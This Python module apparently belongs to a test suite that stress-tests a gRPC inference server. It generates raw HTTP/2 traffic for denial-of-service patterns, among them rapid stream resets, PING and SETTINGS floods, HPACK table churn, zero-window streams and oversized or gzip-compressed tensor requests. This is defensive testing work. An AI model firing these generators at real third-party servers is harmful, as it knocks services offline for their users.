"""Attacks over HTTP/2 and gRPC. Each function gives the pieces that one connection sends."""

import gzip
from collections.abc import Callable, Iterator
from functools import cache
from itertools import count, repeat

from attack_bounds import LARGE, LARGE_ROWS, LARGE_SHAPE, VALUES
from tritonclient.grpc import service_pb2

from proteus_cli.serving.http2 import frames
from proteus_cli.serving.http2.frames import END_HEADERS, END_STREAM, ErrorCode, frame

_SERVICE = b"/inference.GRPCInferenceService/"
_INFER = _SERVICE + b"ModelInfer"
_START = frames.PREFACE + frames.settings({frames.INITIAL_WINDOW_SIZE: 2**20})
_UNREAD = frames.PREFACE + frames.settings({frames.INITIAL_WINDOW_SIZE: 0})
_AT_ONCE = 100  # calls of a piece
_FRAMES = 2000  # of a piece
_TABLE_ENTRIES = 60  # of a header block
_GZIP = frames.literal_field(b"grpc-encoding", b"gzip")


def crumbs() -> Iterator[bytes]:
    yield _START + _headers(1, _INFER) + frame(frames.DATA, 0, 1, b"\0" + (2**20).to_bytes(4, "big"))
    yield from repeat(frame(frames.DATA, 0, 1, b"x") * _FRAMES)


def resets() -> Iterator[bytes]:
    return _calls(lambda stream: _headers(stream, _INFER) + frames.rst_stream(stream, ErrorCode.CANCEL))


def pings() -> Iterator[bytes]:
    yield _START
    yield from repeat(frame(frames.PING, 0, 0, bytes(8)) * _FRAMES)


def settings() -> Iterator[bytes]:
    yield _START
    yield from repeat(frames.settings({}) * _FRAMES)


def header_tables() -> Iterator[bytes]:
    """Header blocks that no cache knows, each with entries that replace all of the compression table."""
    numbers = count()

    def call(stream: int) -> bytes:
        values = (b"%d" % next(numbers) for _ in range(_TABLE_ENTRIES))
        entries = b"".join(b"\x40\x01a" + bytes((len(value),)) + value for value in values)
        return _headers(stream, _SERVICE + b"ServerLive", entries) + _message(stream, b"")

    return _calls(call)


def unread_streams() -> Iterator[bytes]:
    yield _UNREAD
    yield from _calls(lambda stream: _headers(stream, _SERVICE + b"ServerMetadata") + _message(stream, b""), b"")


def health_checks() -> Iterator[bytes]:
    return _calls(lambda stream: _headers(stream, _SERVICE + b"ServerLive") + _message(stream, b""))


def statistics() -> Iterator[bytes]:
    return _calls(lambda stream: _headers(stream, _SERVICE + b"ModelStatistics") + _message(stream, b""))


def malformed_requests() -> Iterator[bytes]:
    return _calls(lambda stream: _headers(stream, _INFER) + _message(stream, b""))


def empty_messages() -> Iterator[bytes]:
    yield _START + _headers(1, _SERVICE + b"ModelStreamInfer")
    yield from repeat(frame(frames.DATA, 0, 1, _framed(b"") * 3000))


def typed_values() -> Iterator[bytes]:
    pieces = _pieces(_framed(_typed_values()))

    def call(stream: int) -> bytes:
        data = b"".join(frame(frames.DATA, 0, stream, piece) for piece in pieces)
        return _headers(stream, _INFER) + data + frame(frames.DATA, END_STREAM, stream, b"")

    return _calls(call, at_once=1)


def typed_values_gzipped() -> Iterator[bytes]:
    packed = gzip.compress(_typed_values(), 9)
    content = b"\1" + len(packed).to_bytes(4, "big") + packed
    return _calls(
        lambda stream: _headers(stream, _INFER, _GZIP) + frame(frames.DATA, END_STREAM, stream, content),
        at_once=1,
    )


@cache
def _typed_values() -> bytes:
    contents = {"fp32_contents": [0.5] * VALUES}
    shape = [LARGE_ROWS, *LARGE_SHAPE]
    tensor = service_pb2.ModelInferRequest.InferInputTensor(name="x", datatype="FP32", shape=shape, contents=contents)
    return bytes(service_pb2.ModelInferRequest(model_name=LARGE, inputs=[tensor]).SerializeToString())


def _pieces(content: bytes) -> list[bytes]:
    """For DATA."""
    return [content[at : at + frames.DEFAULT_FRAME] for at in range(0, len(content), frames.DEFAULT_FRAME)]


def _calls(call: Callable[[int], bytes], start: bytes = _START, at_once: int = _AT_ONCE) -> Iterator[bytes]:
    yield start
    streams = count(1, 2)
    while True:
        yield b"".join(call(next(streams)) for _ in range(at_once))


def _headers(stream: int, path: bytes, more: bytes = b"") -> bytes:
    fields = (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers"),
    )  # fmt: skip
    literal = b"".join(frames.literal_field(name, value) for name, value in fields)
    return frame(frames.HEADERS, END_HEADERS, stream, literal + more)


def _message(stream: int, content: bytes) -> bytes:
    return frame(frames.DATA, END_STREAM, stream, _framed(content))


def _framed(content: bytes) -> bytes:
    return b"\0" + len(content).to_bytes(4, "big") + content
